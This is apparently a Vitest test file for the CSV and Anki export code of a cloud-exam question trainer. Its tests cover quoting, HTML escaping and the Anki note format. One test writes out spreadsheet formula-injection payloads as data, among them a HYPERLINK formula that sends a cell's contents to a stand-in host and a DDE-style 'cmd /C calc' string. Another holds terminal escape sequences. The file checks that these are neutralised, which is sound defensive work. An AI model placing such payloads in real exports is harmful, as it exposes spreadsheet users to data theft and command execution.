import { describe, expect, it } from 'vitest';
import type { Question } from '../../../src/core/bank/types.js';
import { ANKI_HEADER, ankiText, toAnki } from '../../../src/core/export/anki.js';
import { csvField, toCsv } from '../../../src/core/export/csv.js';
import { exportRows } from '../../../src/core/export/rows.js';
import type { ReviewRecord } from '../../../src/core/progress/records.js';

const question = (over: Partial<Question> = {}): Question => ({
  id: 'q-1',
  topic: 'caching',
  type: 'single',
  difficulty: 'exam',
  stem: 'Which one, "really"?\nPick one, please.',
  choices: [
    { text: 'Caching, per stage', correct: true, why: 'It is <enabled> per stage.' },
    { text: 'A\ttab', correct: false, why: 'Wrong & odd.' },
  ],
  answer: [0],
  explanation: 'Because, simply, it is.',
  facts: ['cache.optional'],
  source: 'https://docs.aws.amazon.com/apigateway/',
  bank: 'questions/caching.yaml',
  ...over,
});

const miss: ReviewRecord = { v: 1, type: 'review', id: 'r1', qid: 'q-1', at: '2026-11-20T10:00:00.000Z', source: 'study', correct: false, rating: 1, chosen: ['A\ttab'] };

/** A minimal RFC 4180 reader, to prove the writer's output reads back field for field. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  return rows;
}

describe('CSV export', () => {
  it('quotes only fields that need it and doubles their quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
  });

  it('reads back exactly: commas, quotes and line breaks inside fields survive', () => {
    const rows = exportRows([question()], [{ id: 'cache.optional', topic: 'caching', status: 'verified', core: false, statement: 'Caching is optional.', source: 'https://x.example' }], [miss]);
    const parsed = readCsv(toCsv(rows));
    expect(parsed[0]).toEqual(['id', 'topic', 'type', 'stem', 'choices', 'answer', 'explanation', 'facts', 'source', 'last_wrong_answer', 'missed_at']);
    expect(parsed[1]).toEqual([
      'q-1',
      'caching',
      'single',
      'Which one, "really"?\nPick one, please.',
      'A. Caching, per stage\nB. A\ttab',
      'A',
      'Because, simply, it is.',
      'cache.optional',
      'https://docs.aws.amazon.com/apigateway/',
      'B. A\ttab',
      '2026-11-20T10:00:00.000Z',
    ]);
    expect(parsed).toHaveLength(2);
  });

  it('keeps every cell a spreadsheet would run as a formula as text, with a leading apostrophe', () => {
    for (const cell of ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']) {
      expect(readCsv(`${csvField(cell)}\r\n`)[0]![0]).toBe(`'${cell}`);
    }
    const hostile = question({ stem: '=HYPERLINK("http://evil.example")', explanation: '=1+1', choices: [{ text: '+cmd', correct: true }, { text: '@SUM(1)', correct: false }] });
    const row = readCsv(toCsv(exportRows([hostile], [], [{ ...miss, chosen: ['-crafted'] }])))[1]!;
    expect(row[3]).toBe(`'=HYPERLINK("http://evil.example")`);
    expect(row[6]).toBe("'=1+1");
    expect(row[9]).toBe("'-crafted");
    expect(csvField('A. plain')).toBe('A. plain');
  });

  it('prints a chosen answer from a hand-edited log as text only', () => {
    const [row] = exportRows([question()], [], [{ ...miss, chosen: ['\u001b]0;PWNED-CHOSEN\u0007\u001b[2Jsome text'] }]);
    expect(row!.lastWrongAnswer).toBe('some text');
  });

  it('uses the imported explanation and reference for imported questions', () => {
    const imported = question({ explanation: undefined, source: undefined, facts: [], imported: { file: 'exam1.md', line: 17, position: 2, explanation: 'From the source.' } });
    const [row] = exportRows([imported], []);
    expect(row).toMatchObject({ explanation: 'From the source.', source: 'exam1.md, line 17', facts: [] });
  });
});

describe('Anki export', () => {
  const text = toAnki(exportRows([question(), question({ id: 'q-2', type: 'multi', answer: [0, 1] })], [{ id: 'cache.optional', topic: 'caching', status: 'verified', core: false, statement: 'Caching is optional.', source: 'https://x.example' }], [miss]));
  const lines = text.split('\n');

  it('starts with the header lines Anki reads', () => {
    expect(lines.slice(0, 4)).toEqual(ANKI_HEADER);
    expect(ANKI_HEADER).toEqual(['#separator:tab', '#html:true', '#columns:Front\tBack\tTags', '#tags column:3']);
  });

  it('writes one line per note with exactly three tab-separated fields', () => {
    const notes = lines.slice(4).filter(Boolean);
    expect(notes).toHaveLength(2);
    for (const note of notes) expect(note.split('\t')).toHaveLength(3);
    expect(text.endsWith('\n')).toBe(true);
  });

  it('puts the stem and options on the front, the answer, explanation, facts and source on the back', () => {
    const [front, back, tags] = lines[4]!.split('\t');
    expect(front).toBe('Which one, &quot;really&quot;?<br>Pick one, please.<br><br>A. Caching, per stage<br>B. A tab');
    expect(back).toContain('<b>Answer: A</b><br>A. Caching, per stage — It is &lt;enabled&gt; per stage.');
    expect(back).toContain('Because, simply, it is.');
    expect(back).toContain('• Caching is optional. (cache.optional)');
    expect(back).toContain('Your last wrong answer: B. A tab');
    expect(back).toContain('Source: <a href="https://docs.aws.amazon.com/apigateway/">https://docs.aws.amazon.com/apigateway/</a>');
    expect(tags).toBe('clf-trainer::caching clf-trainer::missed');
    expect(lines[5]!.split('\t')[1]).toContain('<b>Answer: A, B</b>');
  });

  it('never starts a note with "#", which Anki would skip as a comment', () => {
    const notes = toAnki(exportRows([question({ stem: '#1 Which service hosts static sites?' })], [])).split('\n').slice(ANKI_HEADER.length).filter(Boolean);
    expect(notes).toHaveLength(1);
    expect(notes[0]!.startsWith('&#35;1 Which service hosts static sites?')).toBe(true);
  });

  it('escapes HTML and never leaves a raw tab, newline or quote in a field', () => {
    expect(ankiText('a\tb\nc\r\nd <x> & "q" \'s')).toBe('a b<br>c<br>d &lt;x&gt; &amp; &quot;q&quot; &#39;s');
  });
});
